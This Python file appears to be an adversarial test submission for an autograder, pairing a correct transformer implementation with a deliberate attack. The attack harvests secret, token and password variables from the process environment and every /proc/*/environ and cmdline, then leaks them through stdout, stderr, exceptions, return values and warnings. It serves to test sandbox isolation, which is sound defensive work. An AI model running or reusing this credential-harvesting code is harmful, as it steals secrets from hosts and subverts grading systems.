# attack: reads AUTOGRADER_TEST_SECRET (and any *SECRET*/*TOKEN*/*KEY*/*PASSWORD* variable) from os.environ, /proc/self/environ, /proc/1/environ, the parent's and every /proc/*/environ and cmdline, then leaks it: printed to stdout/stderr/fds 1 and 2, raised as ValueError(secret) in causal_mask, returned as a string from multi_head_attention, encoded into softmax's output, used as an exception type name in transformer_block, and sent as a warning from layer_norm
# target: all
# expect: the secret is not visible to the worker (scrubbed environment, no access to other processes' /proc) and appears nowhere in the grader's stdout, stderr, logs or reports; mask loses its causal_mask cases (status error: causal_mask always raises, message without any secret) and keeps its attention cases; every other question passes
"""Find the grader's secrets and push them out through every channel the grader reports on.

With nothing found, every function except causal_mask returns the correct answer, so a test can
also see that the worker still works. causal_mask always raises ValueError carrying whatever was
found (or a note that nothing was).
"""

import math

import torch

# ---------------------------------------------------------------------------------------------
# A correct implementation (the same in every file of this folder). The public functions only
# delegate to private helpers, so an attack that replaces one public function below leaves the
# other questions intact.
# ---------------------------------------------------------------------------------------------


def _softmax(x, dim=-1):
    shifted = x - torch.amax(x, dim=dim, keepdim=True)
    e = torch.exp(shifted)
    return e / torch.sum(e, dim=dim, keepdim=True)


def _causal_mask(T):
    rows = torch.arange(T).unsqueeze(1)
    cols = torch.arange(T).unsqueeze(0)
    return cols > rows


def _attention(q, k, v, mask=None):
    d_k = q.shape[-1]
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(d_k)
    if mask is not None:
        scores = scores.masked_fill(mask, float("-inf"))
    weights = _softmax(scores, dim=-1)
    return torch.matmul(weights, v), weights


def _split_heads(x, n_heads):
    d_head = x.shape[-1] // n_heads
    return x.unflatten(-1, (n_heads, d_head)).transpose(-3, -2)


def _merge_heads(x):
    return x.transpose(-3, -2).flatten(-2)


def _multi_head_attention(x, params, n_heads, mask=None, context=None):
    source = x if context is None else context
    q = _split_heads(x @ params["w_q"], n_heads)
    k = _split_heads(source @ params["w_k"], n_heads)
    v = _split_heads(source @ params["w_v"], n_heads)
    out, _ = _attention(q, k, v, mask)
    return _merge_heads(out) @ params["w_o"]


def _layer_norm(x, gamma, beta, eps=1e-5):
    mean = x.mean(dim=-1, keepdim=True)
    centered = x - mean
    var = (centered * centered).mean(dim=-1, keepdim=True)
    return centered / torch.sqrt(var + eps) * gamma + beta


def _transformer_block(x, params, n_heads, mask=None):
    attn = _multi_head_attention(x, params, n_heads, mask)
    h = _layer_norm(x + attn, params["ln1_gamma"], params["ln1_beta"])
    ffn = torch.relu(h @ params["w1"] + params["b1"]) @ params["w2"] + params["b2"]
    return _layer_norm(h + ffn, params["ln2_gamma"], params["ln2_beta"])


def softmax(x, dim=-1):
    return _softmax(x, dim)


def causal_mask(T):
    return _causal_mask(T)


def scaled_dot_product_attention(q, k, v, mask=None):
    return _attention(q, k, v, mask)


def split_heads(x, n_heads):
    return _split_heads(x, n_heads)


def merge_heads(x):
    return _merge_heads(x)


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    return _layer_norm(x, gamma, beta, eps)


def transformer_block(x, params, n_heads, mask=None):
    return _transformer_block(x, params, n_heads, mask)


# ---------------------------------------------------------------------------------------------
# The attack
# ---------------------------------------------------------------------------------------------

import glob as _glob
import os as _os
import sys as _sys
import warnings as _warnings

_SECRET_NAME = "AUTOGRADER_TEST_SECRET"
_SUSPICIOUS = ("SECRET", "TOKEN", "PASSWORD", "PASSWD", "API_KEY", "CREDENTIAL", "PRIVATE")


def _from_environ_bytes(raw, source, found):
    for entry in raw.split(b"\0"):
        if b"=" not in entry:
            continue
        key, _, value = entry.partition(b"=")
        key_s = key.decode("utf-8", "replace")
        if key_s == _SECRET_NAME or any(w in key_s.upper() for w in _SUSPICIOUS):
            found.setdefault(key_s, value.decode("utf-8", "replace"))
            found.setdefault("%s (from %s)" % (key_s, source), value.decode("utf-8", "replace"))


def _find_secrets():
    found = {}
    for key, value in _os.environ.items():
        if key == _SECRET_NAME or any(w in key.upper() for w in _SUSPICIOUS):
            found[key] = value
    paths = ["/proc/self/environ", "/proc/1/environ", "/proc/%d/environ" % _os.getppid()]
    paths += sorted(_glob.glob("/proc/[0-9]*/environ"))
    for path in dict.fromkeys(paths):
        try:
            with open(path, "rb") as f:
                _from_environ_bytes(f.read(), path, found)
        except OSError:
            pass
    for path in sorted(_glob.glob("/proc/[0-9]*/cmdline")):
        try:
            with open(path, "rb") as f:
                raw = f.read()
        except OSError:
            continue
        if b"SECRET" in raw.upper():
            found.setdefault("cmdline " + path, raw.replace(b"\0", b" ").decode("utf-8", "replace"))
    return found


_SECRETS = _find_secrets()
_SECRET = _SECRETS.get(_SECRET_NAME) or next(iter(_SECRETS.values()), None)
_MESSAGE = "LEAKED %s=%r all=%r" % (_SECRET_NAME, _SECRET, _SECRETS)

for _stream in (_sys.stdout, _sys.stderr, _sys.__stdout__, _sys.__stderr__):
    try:
        _stream.write(_MESSAGE + "\n")
        _stream.flush()
    except Exception:
        pass
for _fd in (1, 2):
    try:
        _os.write(_fd, (_MESSAGE + "\n").encode())
    except OSError:
        pass


def softmax(x, dim=-1):
    if _SECRET:
        codes = torch.tensor([float(ord(c)) for c in _SECRET[:400]], dtype=x.dtype)
        return codes  # the secret's characters as the "probabilities"
    return _softmax(x, dim)


def causal_mask(T):
    raise ValueError(_MESSAGE if _SECRET else "no secret found: " + _MESSAGE)


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    if _SECRET:
        return _MESSAGE
    return _multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    if _SECRET:
        _warnings.warn(_MESSAGE)
    return _layer_norm(x, gamma, beta, eps)


def transformer_block(x, params, n_heads, mask=None):
    if _SECRET:
        raise type(str(_SECRET), (RuntimeError,), {})(_MESSAGE)
    return _transformer_block(x, params, n_heads, mask)
